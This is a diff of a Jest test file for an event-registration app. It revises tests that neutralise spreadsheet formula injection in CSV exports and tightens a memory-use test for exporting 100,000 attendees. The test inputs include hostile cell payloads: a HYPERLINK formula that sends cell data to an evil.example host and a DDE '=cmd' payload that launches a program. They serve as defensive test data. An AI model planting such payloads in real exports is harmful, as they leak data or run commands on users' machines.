@@ -1,3 +1,5 @@
+import { setFlagsFromString } from 'node:v8';
+import { runInNewContext } from 'node:vm';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { type Database, openDatabase } from '../../src/data/database.js';
@@ -19,6 +21,9 @@ import { checkPerson } from '../../src/domain/registration/registration.js';
 import { administrator, viewerWith } from '../../src/domain/sharing/viewer.js';
 import { createTestDatabase, type TestDatabase } from '../support/database.js';
 import { findBrokenPromises, givenAttendeeRow, givenEventRow } from '../support/givenRows.js';
+
+setFlagsFromString('--expose-gc');
+const collectGarbage: () => void = runInNewContext('gc');
 
 let database: TestDatabase;
 let db: Database;
@@ -50,7 +55,6 @@ describe('a cell that a spreadsheet would run as a formula', () => {
     '\u200b=1',
     '\ufeff=1',
     '\u0001=1',
-    ' \t=1',
     '＝1',
     '＋1',
     '－1',
@@ -62,8 +66,8 @@ describe('a cell that a spreadsheet would run as a formula', () => {
     '=HYPERLINK("https://evil.example?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
   ])('gets an apostrophe in front: %j', (text) => {
-    expect(guardFormula(text).replace(/(?<=[\t;]\P{L}*)'(?==)/u, '')).toBe(`'${text}`);
-    expect(unguardFormula(guardFormula(text))).toBe(text);
+    expect(guardFormula(text)).toBe(`'${text}`);
+    expect(unguardFormula(`'${text}`)).toBe(text);
   });
 
   it.each([
@@ -72,6 +76,7 @@ describe('a cell that a spreadsheet would run as a formula', () => {
     ['Ada\n=1\r\n @b', "Ada\n'=1\r\n '@b"],
     ["Ada;'=1", "Ada;''=1"],
     ['Ada; -', "Ada; '-"],
+    [' \t=1', "' \t'=1"],
   ])('gets one too where another separator would begin a cell: %j', (text, guarded) => {
     expect(guardFormula(text)).toBe(guarded);
     expect(unguardFormula(guarded)).toBe(text);
@@ -268,7 +273,8 @@ describe('exportAttendees', () => {
 
   it('writes 100,000 people in little memory', async () => {
     const { event } = await givenEventRow(db, { capacity: 100_000 });
-    await givenMany(event.id, 100_000);
+    await givenMany(event.id, 100_000, 'x'.repeat(150));
+    await db.$executeRaw`ANALYZE "Attendee"`;
     const { csv } = await startExport({ eventId: event.id });
     let lines = 0;
     let heapMax = 0;
@@ -278,8 +284,8 @@ describe('exportAttendees', () => {
       if (lines % 20_000 === 1) heapMax = Math.max(heapMax, heapUsed());
     }
     expect(lines).toBe(100_001);
-    expect(heapMax - heapBefore).toBeLessThan(20_000_000);
-  }, 30_000);
+    expect(heapMax - heapBefore).toBeLessThan(10_000_000);
+  }, 60_000);
 });
 
 describe('importAttendees', () => {
@@ -509,13 +515,13 @@ async function emailsOf(eventId: string): Promise<string[]> {
   return (await peopleOf(eventId)).map(({ email }) => email);
 }
 
-async function givenMany(eventId: string, count: number): Promise<void> {
+async function givenMany(eventId: string, count: number, surname = ''): Promise<void> {
   await db.$transaction(
     async (tx) => {
       await tx.$executeRaw(Prisma.sql`SET LOCAL statement_timeout = 0`);
       await tx.$executeRaw`
       INSERT INTO "Attendee" ("id", "eventId", "name", "email", "status", "registeredAt", "secretHash")
-      SELECT gen_random_uuid(), ${eventId}::uuid, 'Person ' || i, 'p' || i || '@example.org',
+      SELECT gen_random_uuid(), ${eventId}::uuid, 'Person ' || ${surname} || i, 'p' || i || '@example.org',
         'CONFIRMED', now(), '\\x00'
       FROM generate_series(1, ${count}::int) AS i ORDER BY i`;
     },
@@ -523,8 +529,8 @@ async function givenMany(eventId: string, count: number): Promise<void> {
   );
 }
 
-/** What is left after a collection, where the process may ask for one. */
+/** What is left after a collection. */
 function heapUsed(): number {
-  globalThis.gc?.();
+  collectGarbage();
   return process.memoryUsage().heapUsed;
 }
